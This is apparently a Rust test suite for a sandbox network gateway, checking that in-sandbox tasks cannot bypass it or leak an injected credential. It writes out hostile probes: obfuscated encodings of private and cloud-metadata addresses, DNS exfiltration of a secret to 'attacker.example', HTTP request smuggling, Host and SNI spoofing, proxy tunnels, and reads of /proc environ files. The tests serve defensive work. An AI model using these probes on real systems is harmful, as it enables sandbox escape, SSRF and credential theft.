//! Ways round the gateway, tried from inside of a real run; and that a credential stays outside whatever a server does.
//! Servers say `of HOST`; what must not be reached has one too, so that getting there would show.

use crate::project::Project;
use crate::running::Running;
use crate::world::{SECRET, World, events, inside, run};
use std::path::Path;

/// What a task in Python begins with.
const PYTHON: &str = r#"
import os, re, socket, ssl, sys, threading, time
def asks(there, text, wait=5):
    there.settimeout(wait); there.sendall(text.encode()); heard = b""
    try:
        while piece := there.recv(65536):
            heard += piece
    except OSError:
        pass
    return heard.decode(errors="replace")
def tries(what, do):
    try:
        said = do()
        if said and re.search("^[A-Z]+ \\S+ of ", said, re.M): print("REACHED", what, said[:200])
    except OSError:
        pass
"#;

fn python(script: &str) -> String {
    format!("cat >/tmp/task.py <<'END'\n{PYTHON}\n{script}\nprint('done')\nEND\npython3 /tmp/task.py")
}

fn dialled(project: &Project) -> Vec<String> {
    let all = events(project, "network_dialled");
    all.iter().map(|one| one["address"].as_str().unwrap_or_default().to_string()).collect()
}

#[test]
fn an_address_is_refused_however_it_is_spelled() {
    let project = Project::new();
    let script = r#"
        for at in 93.184.215.14 0x5db8d70e 1572394766 0135.0270.0327.016 0x5d.184.0xd7.14 93.12113678 '[::ffff:93.184.215.14]' \
            '[::ffff:5db8:d70e]' '[64:ff9b::5db8:d70e]' '[2606:2800:21f::14]' '[::93.184.215.14]' 10.0.0.1 0xa000001 167772161 012.0.0.1 10.1 \
            '[::ffff:10.0.0.1]' 127.0.0.1 127.1 0x7f.1 2130706433 017700000001 127.255.255.254 0 0.0.0.0 '[::]' '[::1]' localhost \
            169.254.169.254 0xa9fea9fe 2852039166 '[::ffff:169.254.169.254]' 198.18.0.1 198.19.255.254 '[fd61:6964:6f00::1]' 255.255.255.255 224.0.0.1; do
            for scheme in http https; do
                curl -gksS -m 3 "$scheme://$at/" -H 'Host: web.example.com' 2>&1 | grep '^[A-Z]* [^ ]* of ' && echo "REACHED $scheme $at"
                curl -gksS -m 3 -x http://127.0.0.1:3128 "$scheme://$at/" 2>&1 | grep '^[A-Z]* [^ ]* of ' && echo "REACHED $scheme $at by the proxy"
            done
        done; echo done"#;
    let ran = or_skipped!(run(&project, &["--allow-host", "web.example.com"], script));
    ran.ok().stdout("done\n");
    assert_eq!(dialled(&project), Vec::<String>::new());
    let refused = project.summary()["network"]["refused"].to_string();
    assert!(refused.contains("169.254.169.254") && refused.contains("metadata"), "{refused}");
}

#[test]
fn what_is_not_public_is_refused_to_who_may_reach_everything() {
    let project = Project::new();
    let script = r#"
        for at in 10.0.0.1 0xa000001 '[::ffff:10.0.0.1]' 127.0.0.1 '[::1]' 169.254.169.254 metadata.example.com loop.example.com inner.example.com; do
            for scheme in http https; do
                curl -gksS -m 3 "$scheme://$at/" 2>&1 | grep '^[A-Z]* [^ ]* of ' && echo "REACHED $scheme $at"
                curl -gksS -m 3 -x http://127.0.0.1:3128 "$scheme://$at/" 2>&1 | grep '^[A-Z]* [^ ]* of ' && echo "REACHED $scheme $at by the proxy"
            done
        done
        curl -sS -m 5 http://web.example.com/; curl -sS -m 5 http://93.184.215.14/"#;
    let ran = or_skipped!(run(&project, &["--network"], script));
    ran.ok().prints("GET / of web.example.com").prints("GET / of 93.184.215.14");
    assert!(!ran.text().contains("REACHED"), "{ran}");
    assert_eq!(dialled(&project), ["93.184.215.14:80"; 2]);
}

#[test]
fn nothing_leaves_by_asking_for_names() {
    let project = Project::new();
    let task = python(
        r#"
def asked(name, kind):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return os.urandom(2) + b"\x01\x00\x00\x01" + bytes(6) + labels + b"\x00" + kind.to_bytes(2, "big") + b"\x00\x01"
secret = "".join(f"{byte:02x}" for byte in b"what the task has read")
names = [f"{secret}.attacker.example", f"{'a' * 63}.{'b' * 63}.{'c' * 50}.attacker.example", f"{secret}.web.example.com", "web.example.com.attacker.example"]
for name in names:
    for kind in (1, 2, 5, 15, 16, 28, 33, 65, 255):
        for at in ("127.0.0.1", "8.8.8.8", "93.184.215.14"):
            there = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); there.settimeout(0.3 if at == "127.0.0.1" and kind in (1, 16) else 0.01)
            there.sendto(asked(name, kind), (at, 53))
            try:
                said = there.recv(4096)
                if said[6:8] != b"\x00\x00": print("REACHED", name, kind, at)
            except OSError:
                pass
    try:
        there = socket.create_connection(("127.0.0.1", 53), 3); packet = asked(name, 16)
        there.sendall(len(packet).to_bytes(2, "big") + packet); there.settimeout(1); said = there.recv(4096)
        if said[8:10] != b"\x00\x00": print("REACHED by TCP", name)
    except OSError:
        pass
there = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); there.settimeout(3)
there.sendto(asked("web.example.com", 16), ("127.0.0.1", 53)); said = there.recv(4096)
print("texts", int.from_bytes(said[6:8], "big"))
"#,
    );
    project.write("task.sh", task);
    let script =
        r#""$AIDO" run --quiet --allow-host web.example.com -- sh task.sh; cat /mnt/names.log 2>/dev/null; true"#;
    let ran = Running::start(or_skipped!(inside(&project, &["sh", "-c", script]))).end();
    // What the world's service of names was asked for would stand behind.
    ran.ok().stdout("texts 0\ndone\n");
    assert_eq!(dialled(&project), Vec::<String>::new());
}

#[test]
fn a_host_is_not_hidden_behind_another() {
    let yaml = "permissions:\n  network:\n    - {host: web.example.com, ports: [443], methods: [GET]}\n    - {host: www.example.com, tls: pass}\n    - {host: six.example.com, ports: [80]}\n";
    let project = Project::with(&[("sandbox.yaml", yaml)]);
    let task = python(
        r#"
def tls(dialled, named):
    context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
    return context.wrap_socket(socket.create_connection((dialled, 443), 5), server_hostname=named)
for dialled in ("web.example.com", "www.example.com"):
    for named in ("other.example.com", "inner.example.com", None):
        tries(f"{dialled} as {named}", lambda: asks(tls(dialled, named), f"GET / HTTP/1.1\r\nHost: {named or 'other.example.com'}\r\nConnection: close\r\n\r\n"))
for host in ("other.example.com", "10.0.0.1", "web.example.com@other.example.com", "other.example.com:443"):
    tries(f"Host {host}", lambda: asks(tls("web.example.com", "web.example.com"), f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"))
    tries(f"absolute {host}", lambda: asks(tls("web.example.com", "web.example.com"), f"GET http://{host}/ HTTP/1.1\r\nHost: web.example.com\r\nConnection: close\r\n\r\n"))
two = "GET / HTTP/1.1\r\nHost: web.example.com\r\nHost: other.example.com\r\nConnection: close\r\n\r\n"
tries("two hosts", lambda: asks(tls("web.example.com", "web.example.com"), two))
smuggled = "POST / HTTP/1.1\r\nHost: web.example.com\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: other.example.com\r\n\r\n"
tries("smuggled", lambda: asks(tls("web.example.com", "web.example.com"), smuggled))
if " of web.example.com" in asks(tls("web.example.com", "web.example.com"), "GET / HTTP/1.1\r\nHost: web.example.com\r\nConnection: close\r\n\r\n"): print("granted")
"#,
    );
    let ran = or_skipped!(run(&project, &[], &task));
    ran.ok().stdout("granted\ndone\n");
    let there = dialled(&project);
    assert!(there.iter().all(|at| at == "93.184.215.14:443"), "{there:?}");
}

#[test]
fn tunnels_and_relays_lead_nowhere_else() {
    let project = Project::new();
    let task = python(
        r#"
def proxy(): return socket.create_connection(("127.0.0.1", 3128), 5)
other = "GET http://other.example.com/ HTTP/1.1\r\nHost: other.example.com\r\nConnection: close\r\n\r\n"
connect = "CONNECT other.example.com:80 HTTP/1.1\r\nHost: other.example.com:80\r\n\r\n"
for first in ("web.example.com:80", "other.example.com:80", "127.0.0.1:3128", "localhost:3128", "web.example.com:3128", "web.example.com:22", "10.0.0.1:80", "0:80", "[::1]:80"):
    for then in (other, connect + other):
        there = proxy(); there.settimeout(3)
        tries(f"CONNECT {first}", lambda: asks(there, f"CONNECT {first} HTTP/1.1\r\nHost: {first}\r\n\r\n{then}", 2))
tries("absolute", lambda: asks(proxy(), other))
tries("a tunnel in a connection", lambda: asks(socket.create_connection(("web.example.com", 80), 5), connect + other))
# A relay of the task's own gets what the task gets.
door = socket.create_server(("127.0.0.1", 9999))
def relay():
    while True:
        came, _ = door.accept()
        try:
            there = socket.create_connection((came.recv(100).decode().strip(), 80), 3)
            came.sendall(asks(there, "GET / HTTP/1.1\r\nHost: other.example.com\r\nConnection: close\r\n\r\n", 2).encode())
        except OSError:
            pass
        came.close()
threading.Thread(target=relay, daemon=True).start()
for name in ("web.example.com", "other.example.com", "93.184.215.14", "10.0.0.1"):
    tries(f"a relay to {name}", lambda: asks(socket.create_connection(("127.0.0.1", 9999), 5), name, 5))
"#,
    );
    let ran = or_skipped!(run(&project, &["--allow-host", "web.example.com:80"], &task));
    ran.ok().stdout("done\n");
    assert_eq!(dialled(&project), Vec::<String>::new());
}

#[test]
fn the_sandboxs_own_network_cannot_be_changed() {
    let project = Project::new();
    let task = python(
        r#"
import subprocess
def does(words):
    try:
        if subprocess.run(words, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL).returncode == 0: print("REACHED", words)
    except FileNotFoundError:
        pass
for words in ("ip link set lo down", "ip link set lo up", "ip address add 10.9.9.9/32 dev lo", "ip address del 127.0.0.1/8 dev lo", "ip link add d type dummy", "ip link add v type veth",
    "ip route add 10.0.0.0/8 dev lo", "ip route del local default dev lo table local", "ip route flush table local", "ip rule add pref 1 table 7", "ip netns add x", "ip tuntap add t mode tun",
    "nsenter --net=/proc/1/ns/net true", "sysctl -w net.ipv4.ip_forward=1", "iptables -t nat -A OUTPUT -j ACCEPT", "nft add table x", "tc qdisc add dev lo root netem delay 1s"):
    does(words.split())
# The doors are not to be taken over, by whatever option.
for family, at, port, kind in ((2, "127.0.0.1", 80, 1), (2, "198.18.0.1", 80, 1), (2, "0.0.0.0", 80, 1), (10, "::", 80, 1), (10, "::1", 443, 1), (2, "127.0.0.1", 53, 2), (2, "127.0.0.1", 53, 1), (2, "127.0.0.1", 3128, 1)):
    try:
        taken = socket.socket(family, kind)
        for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT): taken.setsockopt(socket.SOL_SOCKET, option, 1)
        taken.bind((at, port))
        if kind == 1: taken.listen()
        print("REACHED: took", at, port)
    except OSError:
        pass
for level, option, value in ((0, 19, 1), (socket.SOL_SOCKET, 36, 1), (socket.SOL_SOCKET, 25, b"lo\0")):
    there = socket.socket()
    try: there.setsockopt(level, option, value)
    except OSError: pass
    tries("an option", lambda: (there.settimeout(3), there.connect(("10.0.0.1", 80)), asks(there, "GET / HTTP/1.0\r\n\r\n"))[-1])
for family in (socket.AF_PACKET, socket.AF_NETLINK, 40, 44):
    try:
        socket.socket(family, socket.SOCK_RAW if family != 40 else socket.SOCK_STREAM)
        if family in (socket.AF_PACKET, 44): print("REACHED: a socket of family", family)
    except OSError:
        pass
tries("unix", lambda: [one for one in open("/proc/net/unix") if "@" in one] and "")
"#,
    );
    let script = format!(
        "{task}\ncurl -sS -m 5 http://web.example.com/; curl -sS -m 5 http://10.0.0.1/ | grep '^[A-Z]* [^ ]* of ' && echo REACHED; true"
    );
    let ran = or_skipped!(run(&project, &["--allow-host", "web.example.com"], &script));
    ran.ok().prints("done\nGET / of web.example.com");
    assert!(!ran.text().contains("REACHED"), "{ran}");
    assert_eq!(dialled(&project), ["93.184.215.14:80"]);
}

#[test]
fn who_is_slow_or_endless_hinders_nobody() {
    let project = Project::new();
    let task = python(
        r#"
silent = [socket.create_connection(("web.example.com", 80), 5) for _ in range(200)]
for n, there in enumerate(silent):
    there.sendall(b"GET / HTTP/1.1\r\nHost: web.ex"[: n % 28])
endless = socket.create_connection(("web.example.com", 80), 5); endless.settimeout(10); sent = 0
try:
    endless.sendall(b"GET / HTTP/1.1\r\nHost: web.example.com\r\n")
    while sent < 64 << 20: sent += endless.send(b"X-More: " + b"x" * 8000 + b"\r\n")
except OSError:
    pass
print("cut" if sent < 8 << 20 else f"took {sent}")
fine = asks(socket.create_connection(("web.example.com", 80), 5), "GET /fine HTTP/1.1\r\nHost: web.example.com\r\nConnection: close\r\n\r\n")
print("fine" if "GET /fine of web" in fine else fine)
"#,
    );
    let ran = or_skipped!(run(&project, &["--allow-host", "web.example.com:80"], &task));
    ran.ok().stdout("cut\nfine\ndone\n");
}

/// Where the secret is found, in whatever form.
fn search(bytes: &[u8]) -> Option<String> {
    use base64::Engine;
    let base64 = |prefix: &str| base64::engine::general_purpose::STANDARD.encode([prefix, SECRET].concat());
    let hex: String = SECRET.bytes().map(|byte| format!("{byte:02x}")).collect();
    // The ends of Base64 depend on what stands beside it, and what URLs, JSON and HTML change is behind these.
    let parts =
        [&SECRET[..12], &SECRET[13..22], &hex[..24], &base64("")[..20], &base64("x")[2..20], &base64("xy")[3..20]];
    parts
        .iter()
        .find(|part| bytes.windows(part.len()).any(|window| window == part.as_bytes()))
        .map(|part| part.to_string())
}

fn everything(folder: &Path, found: &mut Vec<String>) {
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        let kind = path.symlink_metadata().unwrap().file_type();
        if kind.is_dir() {
            everything(&path, found);
        } else if kind.is_file() {
            let what = search(&std::fs::read(&path).unwrap());
            found.extend(what.map(|what| format!("{what} in {}", path.display())));
        }
    }
}

/// The value is planted in the caller's environment; the server gives it back wherever it can.
#[test]
fn a_credential_is_nowhere_in_a_run_whose_server_echoes_it() {
    let yaml = r#"
permissions:
  network:
    - host: web.example.com
      ports: [443]
      methods: ["*"]
      inject: {header: Authorization, value: "Bearer ${KEY}", from: {env: KEY}}
"#;
    let project = Project::with(&[("sandbox.yaml", yaml)]);
    project.write(
        "task.sh",
        r#"
        for path in / /pieces /pieces/much /html /json /base64; do
            curl -sS -m 10 -i --compressed "https://web.example.com$path" -H 'X-Mine: 1'
            curl -sS -m 10 -i --http2 "https://web.example.com$path" -H 'Authorization: Bearer mine' -H 'TE: trailers'
            curl -sS -m 10 -i -r 0-20 "https://web.example.com$path"; curl -sS -m 10 -I "https://web.example.com$path"
        done
        curl -sS -m 10 -X TRACE https://web.example.com/trace
        env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null; cat /etc/aido/* /etc/resolv.conf /etc/hosts
        find / -xdev -newer /proc/1/stat -type f -size -2M ! -path '/usr/*' ! -path '/proc/*' -exec cat {} + 2>/dev/null
        cat /proc/self/mountinfo /proc/net/tcp /proc/net/unix; ls -l /proc/*/fd /dev/shm /tmp /run 2>/dev/null; true"#,
    );
    // Of the gateway itself, what anybody may read who is its user outside.
    let script = r#"
        "$AIDO" run --allow-host web.example.com -- sh task.sh & running=$!
        while test -z "$(pgrep -f ^aido-gateway)"; do sleep 0.1; done
        gateway=$(pgrep -f ^aido-gateway); cat /proc/$gateway/cmdline /proc/$gateway/environ 2>/dev/null
        wait $running; "$AIDO" show; "$AIDO" logs; "$AIDO" logs --events"#;
    let ran = Running::start(or_skipped!(inside(&project, &["sh", "-c", script]))).end();
    ran.ok().prints("authorization: Bearer ***").prints("GET /pieces/much of web.example.com");
    assert_eq!((search(&ran.stdout), search(&ran.stderr)), (None, None), "{ran}");
    let mut found = Vec::new();
    everything(&project.path(), &mut found);
    assert!(found.is_empty(), "{found:#?}");
    let asked = events(&project, "network_request");
    let injected = asked.iter().filter(|one| one["injected"] == true).count();
    assert!(injected >= 24, "{injected} of {asked:?}");
}

/// The probe of the test before: without a gateway between them, all that the server gives back would be found.
#[test]
fn what_the_server_echoes_would_be_found() {
    let project = Project::new();
    for path in ["/", "/html", "/json", "/base64"] {
        let script = format!("curl -sS -i https://web.example.com{path} -H \"Authorization: Bearer $KEY\"");
        let ran = Running::start(or_skipped!(inside(&project, &["sh", "-c", &script]))).end();
        ran.ok();
        assert!(search(&ran.stdout).is_some(), "{path}: {ran}");
        let body = ran.stdout.windows(4).position(|window| window == b"\r\n\r\n").unwrap();
        assert!(search(&ran.stdout[body..]).is_some(), "{path}: {ran}");
    }
}

#[test]
fn a_run_whose_gateway_is_killed_reaches_nothing_and_says_so() {
    let project = Project::with(&[(
        "sandbox.yaml",
        "permissions:\n  network:\n    - {host: inner.example.com, ports: [5432], private: true}\n",
    )]);
    project.write(
        "task.sh",
        python(
            r#"
held = [socket.create_connection(("inner.example.com", 5432), 5) for _ in range(20)]
print("ready", flush=True)
until = time.time() + 20
while time.time() < until and not os.path.exists("/outputs/x"):
    try:
        held[0].sendall(b"x"); held[0].settimeout(5)
        if not held[0].recv(10): break
    except OSError:
        break
    time.sleep(0.05)
alive = 0
for there in held[1:]:
    try:
        there.settimeout(2); there.sendall(b"y"); alive += len(there.recv(10))
    except OSError:
        pass
print("alive", alive)
tries("anew", lambda: socket.create_connection(("inner.example.com", 5432), 3) and "GET / of ")
"#,
        ),
    );
    let script = r#"
        "$AIDO" run --allow-host inner.example.com:5432 -- sh task.sh & running=$!
        while test -z "$(pgrep -f ^aido-gateway)"; do sleep 0.1; done; sleep 2
        pgrep -f ^aido-gateway | xargs kill -9; wait $running; "$AIDO" show"#;
    let world = World::default();
    let ran = Running::start(or_skipped!(world.inside(&project, &["sh", "-c", script]))).end();
    ran.ok().prints("ready").prints("alive 0").prints("done").prints("the gateway is gone");
    assert!(!ran.text().contains("REACHED"), "{ran}");
    assert_eq!(events(&project, "network_lost").len(), 1);
}
